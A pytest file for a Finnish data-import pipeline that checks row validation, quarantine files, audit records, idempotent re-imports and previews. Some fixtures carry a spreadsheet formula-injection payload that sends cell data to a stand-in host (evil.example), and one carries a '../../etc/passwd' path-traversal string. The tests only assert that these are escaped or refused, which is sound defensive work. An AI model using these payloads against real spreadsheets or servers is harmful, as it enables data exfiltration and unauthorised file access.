"""The corpus of bad files: each hazard gives exactly the errors a person needs to fix the file."""

from __future__ import annotations

import csv
import io

import pytest
from ingest_support import BAD, FIXTURES, HON, errors_of, snapshot, table

from data_access.ingest.pipeline import Options, history, import_file, preview_file, quarantine_file


def _quarantine_rows(result) -> list[dict[str, str]]:
    text = result.quarantine.read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def test_happyornot_row_hazards(warehouse):
    result = import_file(warehouse, "happyornot", BAD / "happyornot_rows.csv", options=HON)
    assert errors_of(result) == [
        (3, "experiencePointId", "unknown_unit", "EP-999"),
        (4, "buttonIndex", "out_of_scale", "4"),
        (5, "localTime", "future_date", "2099-01-01T10:00:00"),
        (6, "localTime", "bad_date", "31.2.2024 25:00"),
        (7, "buttonIndex", "bad_number", "kolme"),
        (8, "surveyId", "unknown_scale", "S-X"),
        (9, "misuse", "bad_boolean", "maybe"),
        (10, "feedback_id", "duplicate_in_file", "b-09"),
        (11, "feedback_id", "duplicate_in_file", "b-09"),
        (14, "buttonIndex", "out_of_scale", "5"),
        (15, "feedbackId", "missing_value", ""),
    ]
    assert (result.status, result.rows_in, result.rows_rejected) == ("partial", 14, 11)
    stored = table(warehouse, "quick_feedback")
    assert sorted(stored["feedback_id"]) == ["b-01", "b-10"]  # b-10 twice with the same content: kept once
    audit = table(warehouse, "import_batch").set_index("batch_id").loc[result.batch_id]
    assert (audit["rows_in"], audit["rows_accepted"], audit["rows_rejected"], audit["status"]) == (
        14,
        3,
        11,
        "partial",
    )
    assert result.quarantine == warehouse / "_quarantine" / f"{result.batch_id}.csv"
    rows = _quarantine_rows(result)
    assert [r["_rivi/row"] for r in rows] == ["3", "4", "5", "6", "7", "8", "9", "10", "11", "14", "15"]
    assert rows[1]["_syy"] == "arvo 4 ei ole asteikolla 0–3"
    assert rows[1]["_reason"] == "value 4 is outside the scale 0–3"
    assert rows[7]["_reason"] == "the same id b-09 with different content also on line 11"


def test_formula_cells_are_never_re_exported_raw(warehouse):
    result = import_file(warehouse, "happyornot", BAD / "happyornot_rows.csv", options=HON)
    injected = next(r for r in _quarantine_rows(result) if r["_rivi/row"] == "14")
    assert injected["text"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"Klikkaa")'
    cases = import_file(warehouse, "cases", BAD / "cases_rows.csv")
    reason = next(r for r in _quarantine_rows(cases) if r["_rivi/row"] == "6")
    assert reason["syy"] == '\'=HYPERLINK("http://evil.example","klikkaa")'
    assert reason["_syy"].startswith("arvo =HYPERLINK")
    raw_cells = cases.quarantine.read_text(encoding="utf-8-sig")
    assert ";\"'=HYPERLINK(" in raw_cells and ';"=HYPERLINK(' not in raw_cells


def test_case_register_row_hazards(warehouse):
    result = import_file(warehouse, "cases", BAD / "cases_rows.csv")
    assert errors_of(result) == [
        (3, "case_kind", "bad_value", "Valitus"),
        (4, "decided_on", "date_order", "2024-03-01"),
        (5, "unit_id", "unknown_unit", "TUNTEMATON"),
        (6, "reason", "bad_value", '=HYPERLINK("http://evil.example","klikkaa")'),
        (7, "received_on", "bad_date", "1,5.2024"),
        (7, "service_area_id", "unknown_service_area", "Hallinto"),
        (8, None, "bad_shape", ""),
    ]
    assert (result.status, result.rows_in, result.rows_rejected) == ("partial", 7, 6)
    assert table(warehouse, "case")["case_id"].tolist() == ["X-1"]
    described = result.errors[0].describe()
    assert described == (
        "cases_rows.csv, rivi/line 3, sarake/column case_kind: arvo Valitus ei ole sallittu (muistutus, "
        "kantelu_avi, kantelu_eoa, kantelu_okv, muutoksenhaku) / value Valitus is not allowed (muistutus, "
        "kantelu_avi, kantelu_eoa, kantelu_okv, muutoksenhaku)"
    )


@pytest.mark.parametrize(
    ("kind", "name", "reason"),
    [
        ("cases", "empty.csv", "the file is empty"),
        ("cases", "binary.csv", "the file is not text (binary file)"),
        ("happyornot", "truncated.json", "broken or truncated JSON (line 5, column 4)"),
        ("cases", "truncated.xlsx", "cannot open the Excel file (damaged or truncated)"),
    ],
)
def test_a_file_that_cannot_be_read_changes_nothing(warehouse, kind, name, reason):
    before = snapshot(warehouse)
    result = import_file(warehouse, kind, BAD / name, options=HON)
    assert result.status == "unreadable"
    assert [(e.code, e.allowed) for e in result.errors] == [("unreadable_file", reason)]
    assert snapshot(warehouse) == before


def test_a_missing_required_column_changes_nothing(warehouse):
    before = snapshot(warehouse)
    result = import_file(warehouse, "unit-map", BAD / "unit_map_missing_column.csv")
    assert errors_of(result) == [(None, "unit_id", "missing_column", "")]
    assert result.status == "unreadable"
    assert snapshot(warehouse) == before


def test_a_huge_line_is_rejected_and_the_rest_imported(warehouse, tmp_path):
    path = tmp_path / "huge.csv"
    path.write_text(
        "source;source_key;unit_id\nhappyornot;EP-500;U001\nhappyornot;EP-501;" + "x" * 200_000 + "\n"
        "happyornot;EP-502;U002\n",
        encoding="utf-8",
    )
    result = import_file(warehouse, "unit-map", path)
    assert errors_of(result) == [(3, None, "too_long", "")]
    keys = set(table(warehouse, "source_unit_map")["source_key"])
    assert {"EP-500", "EP-502"} <= keys and "EP-501" not in keys


def test_strict_rejects_the_whole_file_but_audits_it(warehouse):
    before = len(table(warehouse, "case"))
    result = import_file(warehouse, "cases", BAD / "cases_rows.csv", strict=True)
    assert result.status == "rejected"
    assert [e.code for e in result.errors if e.row is None] == ["strict"]
    assert len(table(warehouse, "case")) == before
    audit = table(warehouse, "import_batch").set_index("batch_id").loc[result.batch_id]
    assert (audit["rows_accepted"], audit["rows_rejected"], audit["status"]) == (0, 7, "rejected")
    assert result.quarantine.exists()


def test_reimport_and_overlap_add_nothing_twice(warehouse, tmp_path):
    first = import_file(warehouse, "happyornot", FIXTURES / "happyornot_feedback.csv", options=HON)
    again = import_file(warehouse, "happyornot", FIXTURES / "happyornot_feedback.csv", options=HON)
    assert (first.rows_written, again.rows_written, again.rows_already_stored, again.status) == (
        6,
        0,
        6,
        "ok",
    )
    lines = (FIXTURES / "happyornot_feedback.csv").read_text().splitlines()
    overlap = tmp_path / "overlap.csv"
    overlap.write_text(
        "\n".join([lines[0], *lines[4:], "f-1007,sm-4,2024-04-04T10:00:00,S-4,EP-101,2,false,x,y"])
    )
    result = import_file(warehouse, "happyornot", overlap, options=HON)
    assert (result.rows_written, result.rows_already_stored, result.status) == (1, 3, "ok")
    assert len(table(warehouse, "quick_feedback")) == 7


def test_same_id_with_different_content_than_stored_is_an_error(warehouse, tmp_path):
    import_file(warehouse, "happyornot", FIXTURES / "happyornot_feedback.csv", options=HON)
    changed = tmp_path / "changed.csv"
    lines = (FIXTURES / "happyornot_feedback.csv").read_text().splitlines()
    changed.write_text("\n".join([lines[0], lines[1].replace(",3,false", ",0,false"), lines[2]]))
    result = import_file(warehouse, "happyornot", changed, options=HON)
    assert errors_of(result) == [(2, "feedback_id", "conflict_with_warehouse", "f-1001")]
    assert (result.status, result.rows_already_stored) == ("partial", 1)
    stored = table(warehouse, "quick_feedback").set_index("feedback_id")
    assert stored.loc["f-1001", "button_index"] == 3


def test_a_wide_survey_value_off_its_scale(warehouse, tmp_path):
    survey = tmp_path / "wide.csv"
    survey.write_text(
        "Vastaustunnus;Vastauspäivä;Toimipiste;Sain palvelua oikeaan aikaan;Kouluarvosana (4-10)\n"
        "Z-1;1.10.2024;101;6;3\nZ-2;1.10.2024;101;4;9,5\n",
        encoding="cp1252",
    )
    options = Options(mapping=FIXTURES / "survey_wide_mapping.csv")
    result = import_file(warehouse, "survey-wide", survey, options=options)
    assert result.status == "unreadable"
    assert errors_of(result) == [
        (None, "minua kohdeltiin asiallisesti", "missing_column", ""),
        (None, "vapaa sana", "missing_column", ""),
    ]
    short_mapping = tmp_path / "mapping.csv"
    short_mapping.write_text(
        "sarake;kysymys\nSain palvelua oikeaan aikaan;pm1\nKouluarvosana (4-10);arvosana\n"
    )
    result = import_file(warehouse, "survey-wide", survey, options=Options(mapping=short_mapping))
    assert errors_of(result) == [
        (2, "kouluarvosana (4-10)", "out_of_scale", "3"),
        (2, "sain palvelua oikeaan aikaan", "out_of_scale", "6"),
    ]
    assert table(warehouse, "survey_answer")[["response_id", "value"]].values.tolist() == [
        ["Z-2", 4.0],
        ["Z-2", 9.5],
    ]


def test_preview_reports_what_an_import_would_do_and_writes_nothing(warehouse):
    before = snapshot(warehouse)
    preview = preview_file(warehouse, "cases", BAD / "cases_rows.csv")
    assert snapshot(warehouse) == before
    result = import_file(warehouse, "cases", BAD / "cases_rows.csv")
    assert errors_of(preview) == errors_of(result)
    assert (preview.status, preview.rows_in, preview.rows_rejected, preview.rows_written) == (
        "partial",
        7,
        6,
        1,
    )
    again = preview_file(warehouse, "cases", FIXTURES / "cases.csv", display_name="rekisteri.csv")
    assert (again.file, again.status, again.rows_written) == ("rekisteri.csv", "ok", 4)


def test_history_lists_batches_and_their_quarantine_files(warehouse):
    result = import_file(warehouse, "cases", BAD / "cases_rows.csv", user="anna")
    rows = history(warehouse)
    assert rows.iloc[0]["batch_id"] == result.batch_id
    assert (rows.iloc[0]["imported_by"], bool(rows.iloc[0]["quarantine"])) == ("anna", True)
    assert not rows.iloc[-1]["quarantine"]
    assert quarantine_file(warehouse, result.batch_id) == result.quarantine
    assert quarantine_file(warehouse, "../../etc/passwd") is None
    assert quarantine_file(warehouse, rows.iloc[-1]["batch_id"]) is None
